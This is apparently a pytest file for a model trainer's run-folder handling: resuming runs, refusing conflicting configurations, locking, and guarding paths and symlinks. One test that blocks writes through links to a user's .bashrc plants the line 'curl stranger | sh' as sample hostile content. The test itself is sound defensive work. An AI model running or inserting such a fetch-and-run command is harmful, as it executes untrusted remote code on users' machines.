"""The same run resumes in its folder, and another run is refused: trainer/run/opening.py,
identity.py."""

import contextlib
import dataclasses
import errno
import json
import os
import re
import subprocess
import sys

import pytest
import yaml

from data.errors import UserError
from data.trajectories.options import TrajectoryConfig
from trainer.config.data import DataConfig, SourceConfig
from trainer.config.load import dump
from trainer.config.preference import PreferenceConfig
from trainer.config.schema import (
    AttentionConfig,
    CheckpointConfig,
    LoggingConfig,
    MemoryConfig,
    MeshConfig,
    ModelConfig,
    OptimizerConfig,
    RunConfig,
    SampleConfig,
    TrainConfig,
)
from trainer.reporting.rows import read_rows
from trainer.run import logs as run_logs
from trainer.run import opening
from trainer.run.bucket import Bucket
from trainer.run.identity import identity, shared_fields
from trainer.run.opening import check_run


def open_run(config, process_zero=True):
    """Opens a run, and releases its lock at once."""
    with contextlib.ExitStack() as lock:
        return opening.open_run(config, process_zero, lock)


@pytest.fixture
def config(tmp_path):
    return RunConfig(
        name="one",
        model=ModelConfig(preset="tiny", tokenizer="t"),
        data=DataConfig(sources=(SourceConfig("a.json"),)),
        run_dir=str(tmp_path / "run"),
    )


def test_the_same_run_resumes_with_moved_files_and_other_intervals(config):
    """Fingerprints in the checkpoints identify the files' contents: see
    tests/trainer/test_pretrained.py."""
    config = dataclasses.replace(config, model=ModelConfig(path="hf"))
    run = open_run(config)
    moved = DataConfig(
        sources=(SourceConfig("elsewhere/a.json"),), held_out_path="elsewhere/b.json"
    )
    assert (
        open_run(
            dataclasses.replace(
                config, model=ModelConfig(path="elsewhere/hf", tokenizer="there"), data=moved
            )
        )
        == run
    )
    often = {
        "checkpoint": CheckpointConfig(every=1, keep=9),
        "evaluations": ({"test": "needle"},),
        "train": TrainConfig(evaluate_every=3),
    }
    assert open_run(dataclasses.replace(config, **often)) == run
    assert "evaluate_every: 3" in run.config.read_text()


def test_an_evaluation_that_measures_something_else_under_its_name_is_named(config, capfd):
    """Its file had lines of both, which nothing told apart."""

    def measuring(**changes):
        needles = {"test": "needle", "every": 5, "count": 20, "tokens": (64,), **changes}
        return dataclasses.replace(config, evaluations=({"test": "lines"}, needles))

    open_run(measuring())
    open_run(measuring(every=3, rows=2, tokens=[64]))
    assert "warning" not in capfd.readouterr().err
    open_run(measuring(count=50))
    expected = "warning: evaluations: count of needle was 20 and is 50 now; needle.jsonl goes on"
    assert expected in capfd.readouterr().err


def test_processes_share_what_they_evaluate_but_not_where_its_files_are(config):
    """Processes that evaluated at different steps would wait for each other for ever."""

    def shared(**changes):
        line = {"test": "lines", "every": 2, "text": "a.txt", **changes}
        samples = SampleConfig(prompts=("Who?",), every=changes.get("every", 2))
        return shared_fields(dataclasses.replace(config, evaluations=(line,), samples=samples))

    assert shared(text="/mnt/b.txt") == shared()
    changed = shared(every=3)
    assert {name for name in changed if changed[name] != shared()[name]} == {
        "evaluations",
        "samples.every",
    }
    assert shared(lines=[5])["evaluations"] != shared()["evaluations"]


def test_a_run_on_trajectories_resumes_with_moved_episodes(config):
    """Their contents are in the fingerprint, as those of text are."""

    def learning(path):
        options = TrajectoryConfig(path=path, task="walker_walk")
        return dataclasses.replace(config, data=DataConfig(), trajectories=options)

    assert open_run(learning("episodes")) == open_run(learning("/elsewhere/episodes"))


def test_a_reference_given_to_a_run_without_stages_is_not_said_to_be_derived_from_them(config):
    open_run(dataclasses.replace(config, preference=PreferenceConfig("sigmoid")))
    given = PreferenceConfig("sigmoid", ref_model="hf")
    with pytest.raises(UserError, match=r"ref_model is 'not given' there and 'given' now; give"):
        open_run(dataclasses.replace(config, preference=given))


def test_compiled_programs_may_be_kept_in_the_runs_folder(config, tmp_path):
    config = dataclasses.replace(config, compile_cache=str(tmp_path / "run/compiled/xla"))
    (tmp_path / "run/compiled/xla").mkdir(parents=True)
    open_run(config)
    with pytest.raises(UserError, match="holds files but no config"):
        (tmp_path / "run/config.yaml").unlink()
        check_run(dataclasses.replace(config, compile_cache=None))
    (tmp_path / "loop").symlink_to("loop")
    with pytest.raises(UserError, match="holds files but no config"):
        check_run(dataclasses.replace(config, compile_cache=str(tmp_path / "loop")))


def test_the_same_run_resumes_on_any_hardware(config):
    run = open_run(config)
    elsewhere = dataclasses.replace(
        config,
        name="two",
        mesh=MeshConfig(fsdp=4, simulate=4),
        memory=MemoryConfig(loss_chunk=8),
        attention=AttentionConfig("zigzag", {"name": "ulysses", "degree": 2}, "xla", query_tile=8),
        logging=LoggingConfig(console=False),
        data=dataclasses.replace(config.data, prepared="/elsewhere"),
        train=TrainConfig(log_every=5, non_finite="skip", accumulation=2),
    )
    assert open_run(elsewhere) == run
    assert identity(elsewhere) == identity(config)
    assert "query_tile: 8" in run.config.read_text(), "config.yaml records how it was last run"


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"train": TrainConfig(steps=5)}, "train.steps is 100 there and 5 now"),
        (
            {"optimizer": OptimizerConfig(learning_rate=1.0)},
            "optimizer.learning_rate is 1e-05 there and 1.0 now",
        ),
        (
            {"data": DataConfig(sources=(SourceConfig("a.json", weight=2.0),))},
            ": data.sources[0].weight is 1.0 there and 2.0 now;",
        ),
        (
            {"data": DataConfig(sources=(SourceConfig("a.json"), SourceConfig("b.json")))},
            "data.sources[1] is",
        ),
        (
            {"model": ModelConfig(preset="tiny", tokenizer="t", seed=1)},
            "model.seed is 0 there and 1 now",
        ),
        (
            {"attention": AttentionConfig(window=64)},
            "attention.window is None there and 64 now",
        ),
    ],
)
def test_another_run_is_refused(config, change, words):
    run = open_run(config)
    before = run.config.read_text()
    with pytest.raises(UserError) as error:
        open_run(dataclasses.replace(config, **change))
    assert words in str(error.value)
    assert "--run_dir" in str(error.value) and "delete" in str(error.value)
    assert run.config.read_text() == before


def test_a_trained_run_can_be_lengthened_from_its_weights_but_is_never_deleted(config):
    run = open_run(config)
    (run.checkpoints / "50").mkdir(parents=True)
    for change, remedy in (
        (
            {"train": TrainConfig(steps=200)},
            f"--model.path {run.folder} --run_dir NEW starts from its trained weights",
        ),
        ({"optimizer": OptimizerConfig(learning_rate=1.0)}, "give another --run_dir"),
    ):
        with pytest.raises(UserError) as error:
            open_run(dataclasses.replace(config, **change))
        assert remedy in str(error.value) and "delete" not in str(error.value)


NO_SCHEDULE = "a run can change its length with optimizer.schedule constant, or wsd before it"
FROM_ITS_WEIGHTS = "--run_dir NEW starts from its trained weights, with new moments"


@pytest.mark.parametrize(
    ("schedule", "finished", "steps", "refusal"),
    [
        ("constant", 100, 200, None),
        ("constant", 50, 60, None),
        ("constant", 100, 60, ["60 steps ends after step 60, and 100 are", "; 100 would work"]),
        ("constant", 70, 60, ["60 steps ends after step 60, and 70 are", "; 70 would work"]),
        ("wsd", 80, 200, None),
        ("wsd", 100, 200, ["100 steps decays after step 80, and 100 are", FROM_ITS_WEIGHTS]),
        ("wsd", 60, 50, ["50 steps decays after step 40, and 60 are", "; 100 would work"]),
        ("cosine", 50, 200, [NO_SCHEDULE, FROM_ITS_WEIGHTS]),
        ("linear", 50, 200, [NO_SCHEDULE, FROM_ITS_WEIGHTS]),
        ("linear", 50, 40, [NO_SCHEDULE, "; 100 would work"]),
    ],
)
def test_a_run_can_be_lengthened_if_no_finished_step_depends_on_its_length(
    config, schedule, finished, steps, refusal
):
    config = dataclasses.replace(config, optimizer=OptimizerConfig(schedule=schedule))
    assert config.train.steps == 100
    run = open_run(config)
    (run.checkpoints / str(finished)).mkdir(parents=True)
    longer = with_steps(config, steps)
    if refusal is None:
        open_run(longer)
        assert yaml.safe_load(run.config.read_text())["train"]["steps"] == steps
    else:
        with pytest.raises(UserError) as error:
            open_run(longer)
        assert all(words in str(error.value) for words in refusal), error.value


def with_steps(config, steps):
    return dataclasses.replace(config, train=dataclasses.replace(config.train, steps=steps))


def test_the_field_that_keeps_a_run_from_another_length_is_named(config):
    """The schedule allows it, so advice to change the schedule would not help."""
    fraction = OptimizerConfig(schedule="constant", warmup_fraction=0.5)
    config = dataclasses.replace(config, optimizer=fraction)
    run = open_run(config)
    (run.checkpoints / "50").mkdir(parents=True)
    with pytest.raises(UserError) as error:
        open_run(with_steps(config, 200))
    assert "with optimizer.warmup_steps instead of warmup_fraction; --model" in str(error.value)
    assert "schedule" not in str(error.value)


def test_a_length_that_is_allowed_is_not_what_another_run_is_refused_for(config):
    config = dataclasses.replace(config, optimizer=OptimizerConfig(schedule="constant"))
    open_run(config)
    with pytest.raises(UserError, match=r"folder: train.batch_size is \d+ there and 3 now; give"):
        open_run(
            dataclasses.replace(
                config, train=dataclasses.replace(config.train, steps=200, batch_size=3)
            )
        )


@pytest.mark.parametrize("record", [{"step": 90}, {"step": 80, "begun": 90}])
def test_a_run_is_not_lengthened_from_a_local_checkpoint_that_has_decayed(config, record):
    """The newest checkpoint in its folder has not, but the run would go on from the local one."""
    config = dataclasses.replace(config, optimizer=OptimizerConfig(schedule="wsd"))
    run = open_run(config)
    (run.checkpoints / "40").mkdir(parents=True)
    local = run.folder / "local.json"
    local.write_text(json.dumps({"run": "0123456789abcdef", **record}))
    before = run.config.read_text()
    with pytest.raises(UserError) as error:
        open_run(with_steps(config, 200))
    assert "100 steps decays after step 80, and 90 are finished" in str(error.value)
    assert f"; without {local} it continues from step 40, and 200 would work" in str(error.value)
    assert run.config.read_text() == before
    local.unlink()
    open_run(with_steps(config, 200))


@pytest.mark.parametrize(
    "record", [{"step": 80}, {"step": None}, {"step": 90, "location": "/original", "inode": 0}]
)
def test_a_run_is_lengthened_if_its_local_checkpoints_have_not_decayed(config, record):
    """A copy's record is of the original, whose local checkpoints it does not use."""
    config = dataclasses.replace(config, optimizer=OptimizerConfig(schedule="wsd"))
    run = open_run(config)
    (run.checkpoints / "40").mkdir(parents=True)
    (run.folder / "local.json").write_text(json.dumps({"run": "0123456789abcdef", **record}))
    open_run(with_steps(config, 200))


def test_a_run_with_nothing_but_local_checkpoints_is_not_to_be_deleted(config):
    run = open_run(config)
    (run.folder / "local.json").write_text('{"run": "0123456789abcdef", "step": 9}')
    for other in (
        with_steps(config, 200),
        dataclasses.replace(config, optimizer=OptimizerConfig(learning_rate=1.0)),
    ):
        with pytest.raises(UserError, match=r"; give another --run_dir$"):
            open_run(other)


def test_an_older_run_resumes_with_defaults_for_newer_fields(config):
    run = open_run(config)
    written = yaml.safe_load(run.config.read_text())
    del (
        written["optimizer"]["moment_dtype"],
        written["memory"]["every_k"],
        written["data"]["clean"]["languages"],
    )
    run.config.write_text(yaml.safe_dump(written))
    open_run(config)
    run.config.write_text(yaml.safe_dump(written))
    with pytest.raises(
        UserError, match=r"optimizer.moment_dtype is 'float32' there and 'bfloat16' now"
    ):
        open_run(dataclasses.replace(config, optimizer=OptimizerConfig(moment_dtype="bfloat16")))


def test_an_older_run_resumes_without_options_that_its_optimizer_never_read(config):
    config = dataclasses.replace(config, optimizer=OptimizerConfig(name="adafactor"))
    run = open_run(config)
    written = yaml.safe_load(run.config.read_text())
    written["optimizer"]["beta2"] = 0.99
    run.config.write_text(yaml.safe_dump(written))
    open_run(config)
    run.config.write_text(yaml.safe_dump(written))
    with pytest.raises(UserError, match=r"optimizer\.name is 'adafactor' there and 'adamw' now"):
        open_run(dataclasses.replace(config, optimizer=OptimizerConfig(beta2=0.95)))


def test_a_run_of_another_version_is_refused(config):
    run = open_run(config)
    run.config.write_text(
        yaml.safe_dump({**yaml.safe_load(run.config.read_text()), "config_version": 1})
    )
    with pytest.raises(UserError, match=r"config\.yaml: config_version: found 1, needs 2"):
        open_run(config)


@pytest.mark.parametrize("evaluations", [5, None, [3], {"test": "lines"}], ids=str)
def test_damaged_evaluations_in_the_runs_configuration_are_one_line(config, evaluations):
    config = dataclasses.replace(config, evaluations=({"test": "lines"},))
    run = open_run(config)
    written = {**yaml.safe_load(run.config.read_text()), "evaluations": evaluations}
    run.config.write_text(yaml.safe_dump(written))
    with pytest.raises(UserError, match=r"config\.yaml: cannot be read as a run's configuration"):
        open_run(config)


def test_a_key_written_twice_in_the_runs_configuration_is_refused(config):
    run = open_run(config)
    number = len(run.config.read_text().splitlines()) + 1
    run.config.write_text(run.config.read_text() + "train: {}\n")
    with pytest.raises(
        UserError, match=rf"config\.yaml: train is written twice, on lines \d+ and {number}; "
    ):
        open_run(config)


def test_a_folder_that_is_not_a_run_is_refused(config, tmp_path):
    (tmp_path / "run").mkdir()
    open_run(config)  # empty is fine
    (tmp_path / "photos").mkdir()
    (tmp_path / "photos" / "one.txt").write_text("")
    with pytest.raises(UserError, match=r"no config\.yaml, so it is not a run"):
        open_run(dataclasses.replace(config, run_dir=str(tmp_path / "photos")))
    assert os.listdir(tmp_path / "photos") == ["one.txt"]
    (tmp_path / "file").write_text("")
    with pytest.raises(UserError, match="is a file"):
        open_run(dataclasses.replace(config, run_dir=str(tmp_path / "file")))
    (tmp_path / "run" / "config.yaml").write_text("[")
    with pytest.raises(UserError, match=r"config\.yaml: cannot be read"):
        open_run(config)


@pytest.mark.parametrize(
    ("name", "character"),
    [("lr[0.1]", "["), ("[!a]", "["), ("a*b", "*"), ("a?b", "?"), ("a\\b", "\\")],
)
def test_a_path_in_which_no_checkpoint_could_be_saved_is_refused(
    config, tmp_path, name, character, monkeypatch
):
    """Orbax looks for what it wrote with a glob pattern that begins with the folder's absolute
    path."""
    pattern = f"run_dir: {re.escape(str(tmp_path / name))}.* has {re.escape(character)} in it"
    with pytest.raises(UserError, match=f"{pattern}.* would work"):
        open_run(dataclasses.replace(config, run_dir=str(tmp_path / name / "run")))
    assert not (tmp_path / name).exists()
    (tmp_path / name).mkdir()
    monkeypatch.chdir(tmp_path / name)
    with pytest.raises(UserError, match=pattern):
        open_run(dataclasses.replace(config, run_dir=None))
    (tmp_path / "link").symlink_to(tmp_path / name)
    assert open_run(
        dataclasses.replace(config, run_dir=str(tmp_path / "link" / "run"))
    ).config.exists()


@pytest.mark.parametrize(
    "name",
    [
        "metrics.jsonl",
        "metrics.jsonl.tmp",
        "metrics.jsonl.unreadable",
        "held_out.jsonl",
        "config.yaml.tmp",
        "lock",
    ],
)
@pytest.mark.parametrize("exists", [True, False])
def test_a_strangers_run_does_not_write_through_links(config, tmp_path, name, exists):
    """Otherwise unreadable log lines would be appended to one of the user's files."""
    run, users_file = tmp_path / "run", tmp_path / ".bashrc"
    open_run(config)
    if exists:
        users_file.write_text("the user's own")
    (run / "metrics.jsonl").write_text("curl stranger | sh\n{}\n")
    (run / name).unlink(missing_ok=True)
    (run / name).symlink_to(users_file)
    with pytest.raises(UserError, match=f"{name}: leads to .*, outside of its folder"):
        open_run(config)
    assert (users_file.read_text() if users_file.exists() else None) == (
        "the user's own" if exists else None
    )


def test_a_run_killed_while_opening_can_be_opened(config, tmp_path):
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / "config.yaml.tmp").write_text("half")
    assert open_run(config).config.exists()


def test_one_of_two_simultaneous_starts_is_refused(config, monkeypatch):
    """Both wrote config.yaml.tmp, and the first renamed it before the second could."""
    refused = []

    def other_start(path):
        with monkeypatch.context() as patch, pytest.raises(UserError) as caught:
            patch.setattr(run_logs, "sync", lambda path: None)
            open_run(config)
        refused.append(str(caught.value))

    monkeypatch.setattr(run_logs, "sync", other_start)
    assert open_run(config).config.exists()
    assert (
        len(refused) == 1
        and f"process {os.getpid()} on " in refused[0]
        and "is training there" in refused[0]
    )


def test_a_run_that_takes_the_folder_first_is_named(config, monkeypatch):
    """It came between the check and the lock."""
    other = dataclasses.replace(config, model=dataclasses.replace(config.model, seed=1))
    held = opening.held

    @contextlib.contextmanager
    def held_after_the_other(path):
        (path.parent / "config.yaml").write_text(dump(other))
        with held(path):
            yield

    monkeypatch.setattr(opening, "held", held_after_the_other)
    with pytest.raises(
        UserError, match=r"another run is in this folder: model.seed is 1 there and 0 now"
    ):
        open_run(config)


def test_a_run_killed_between_lock_and_configuration_can_be_opened(config, tmp_path):
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / "lock").touch()
    assert open_run(config).config.exists()


def test_only_the_first_process_writes_and_the_others_see_it(config, monkeypatch):
    """On separate disks the others would train until the first checkpoint and lose it."""
    monkeypatch.setattr(opening, "VISIBLE_SECONDS", 0)
    with pytest.raises(
        UserError, match=r"run: created by process 0 but not visible here; use a --run_dir that all"
    ):
        open_run(config, process_zero=False)
    run = open_run(config)
    assert open_run(config, process_zero=False) == run


def test_a_folder_may_be_in_the_users_home(config, tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    assert open_run(dataclasses.replace(config, run_dir="~/mine")).folder == tmp_path / "mine"


def test_a_read_only_folder_is_refused_before_the_work(config):
    nowhere = dataclasses.replace(config, run_dir="/proc/none/run")
    with pytest.raises(
        UserError, match=r"^/proc: cannot write there \(.*\); give another --run_dir$"
    ):
        check_run(nowhere)
    check_run(nowhere, process_zero=False)
    run = open_run(config)
    run.metrics.mkdir()
    with pytest.raises(UserError, match=rf"^{run.metrics}: cannot write there \(Is a directory\)"):
        check_run(config)


def test_a_file_system_that_cannot_rename_folders_is_refused_before_the_work(tmp_path, monkeypatch):
    """A flat bucket mounted by gcsfuse can rename files and empty folders only."""
    rename = os.rename

    def flat(path, target):
        if os.path.isdir(path) and os.listdir(path):
            raise OSError(errno.EMFILE, "Too many open files")
        return rename(path, target)

    monkeypatch.setattr(os, "rename", flat)
    with pytest.raises(UserError, match=f"{tmp_path}: a folder cannot be renamed there .*gs://"):
        check_run(RunConfig(run_dir=str(tmp_path / "run")))
    assert not list(tmp_path.iterdir())


def test_starts_at_once_do_not_meet_in_the_file_that_tries_a_bucket(
    store_and_url, config, monkeypatch
):
    """One once deleted the other's between its two writes: `this store ignores write conditions`.
    A file that a killed start left is no reason to refuse the folder."""
    server, url = store_and_url
    config = dataclasses.replace(config, run_dir=f"{url}/run")
    write, others = Bucket.write, iter([True])

    def meeting_another_start(bucket, name, content, *rest):
        if content == b"2" and next(others, False):
            check_run(config)
            write(bucket, f"{name}-killed", b"1")
        return write(bucket, name, content, *rest)

    monkeypatch.setattr(Bucket, "write", meeting_another_start)
    check_run(config)
    [left] = server.store.names()
    assert left.endswith("-killed")


def test_a_run_copied_from_a_bucket_is_read_and_resumed(config):
    """Its logs are folders of parts there; the newest series supersedes the others."""
    run = open_run(config)
    lines = [json.dumps({"step": step}) + "\n" for step in range(4)]
    run.metrics.mkdir()
    for series, offset, part in ((0, 0, [0]), (1, 0, [1, 2]), (1, 26, [3])):
        content = "".join(lines[step] for step in part)
        (run.metrics / f"{series:06}-{offset:015}").write_text(content)
    (run.metrics / ".DS_Store").write_text("x")
    assert read_rows(run.metrics, run.folder) == [{"step": step} for step in (1, 2, 3)]
    open_run(config)
    assert run.metrics.read_text() == "".join(lines[1:])
    assert sorted(path.name for path in run.folder.iterdir()) == [
        "config.yaml",
        "lock",
        "metrics.jsonl",
    ]


FOLDER = """
import os, sys
from trainer.config.schema import ModelConfig, RunConfig

os.getpid = lambda: 1
print(RunConfig(model=ModelConfig(preset="tiny", tokenizer="t"), run_dir="gs://bucket/run").folder)
"""


def test_containers_with_equal_process_ids_share_no_folder(repository):
    """Each removes its own at its end, while the other may still train."""
    folders = {
        subprocess.run(
            [sys.executable, "-c", FOLDER], cwd=repository, capture_output=True, check=True
        ).stdout
        for _ in range(2)
    }
    assert len(folders) == 2
